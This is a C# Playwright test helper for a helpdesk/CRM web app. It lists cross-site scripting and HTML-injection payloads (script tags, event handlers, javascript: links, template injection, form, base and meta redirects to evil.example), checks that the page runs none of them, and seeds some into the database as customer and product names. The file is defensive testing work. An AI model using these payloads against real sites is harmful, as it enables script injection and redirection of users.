using Microsoft.Playwright;
using Npgsql;

namespace AiDesk.Desk.PagesTests.Browsing;

/// <summary>
/// Texts that would be more than text on a page that is careless: each tries another door. Whatever field they come through, the page shows them to the
/// letter and nothing of them runs. <see cref="Mark"/> is what they would leave behind.
/// </summary>
public static class Payloads
{
    /// <summary>A property of the window that any of them sets when it runs.</summary>
    public const string Mark = "aideskOwned";

    /// <summary>One after the other, for fields that hold many characters.</summary>
    public static string AllInOne => string.Join(" ", All);

    public static IReadOnlyList<string> All { get; } =
    [
        $"<script>window.{Mark}=1</script>",
        $"</textarea></pre></td></title><script>window.{Mark}=2</script>",
        $"<img src=x onerror=\"window.{Mark}=3\">",
        $"\"><svg onload=window.{Mark}=4>",
        $"' autofocus onfocus='window.{Mark}=5' x='",
        $"<a href=\"javascript:window.{Mark}=6\">a link</a>",
        $"<iframe srcdoc=\"<script>parent.{Mark}=7</script>\"></iframe>",
        $"<details open ontoggle=window.{Mark}=8>",
        $"<style>@import '//evil.example/x.css'; body{{display:none}}</style>",
        $"&lt;script&gt;window.{Mark}=9&lt;/script&gt;",
        $"<!--><script>window.{Mark}=10</script>-->",
        $"{{{{constructor.constructor('window.{Mark}=11')()}}}} ${{window.{Mark}=12}}",
        $"<form action=\"//evil.example\"><button>Send</button></form>",
        $"<base href=\"//evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    ];

    /// <summary>Short ones, for names and tags.</summary>
    public static IReadOnlyList<string> Short { get; } = [$"<b onclick=window.{Mark}=13>Eve</b>", $"<script>{Mark}=14</script>", "\"><i>Eve"];

    /// <summary>Nothing ran, nothing was built of it, and nobody else was asked for anything.</summary>
    /// <param name="page">That shows some of them.</param>
    public static async Task ShouldHaveDoneNothingAsync(IPage page)
    {
        (await page.EvaluateAsync<bool>($"() => '{Mark}' in window")).ShouldBeFalse("a payload ran");
        (await page.Locator("main script:not([src]), main iframe, main svg[onload], main style, main base, main meta, main [onerror], main [onclick], main [onfocus], main [ontoggle], main a[href^='javascript']").CountAsync())
            .ShouldBe(0, "a payload became elements");
        (await page.EvaluateAsync<string[]>("() => performance.getEntriesByType('resource').map((entry) => new URL(entry.name).host).filter((host) => host !== location.host)"))
            .ShouldBeEmpty("somebody else was asked for something");
    }

    /// <summary>A customer whose name is one, and a product that is called "markupling" and another.</summary>
    /// <param name="superuser">Writes past the CRM.</param>
    /// <param name="tenant">The shop.</param>
    /// <param name="person">The customer's id, unlike any other.</param>
    public static async Task StoreAsync(string superuser, string tenant, string person)
    {
        await using var connection = new NpgsqlConnection(superuser);
        await connection.OpenAsync();
        await using var command = new NpgsqlCommand(
            """
            INSERT INTO desk.contacts (tenant_id, contact_id, person_id, name) VALUES (@tenant, @person, @person, @name);
            INSERT INTO desk.products (tenant_id, product_id, name, search_text, price, currency, stock, cost_price, supplier)
            VALUES (@tenant, @person, @product, 'markupling shoe shoes', 1000, 'EUR', 3, 500, 'x')
            """,
            connection);
        command.Parameters.AddWithValue("tenant", tenant);
        command.Parameters.AddWithValue("person", person);
        command.Parameters.AddWithValue("name", Short[0]);
        command.Parameters.AddWithValue("product", "Markupling shoe " + Short[1]);
        await command.ExecuteNonQueryAsync();
    }
}
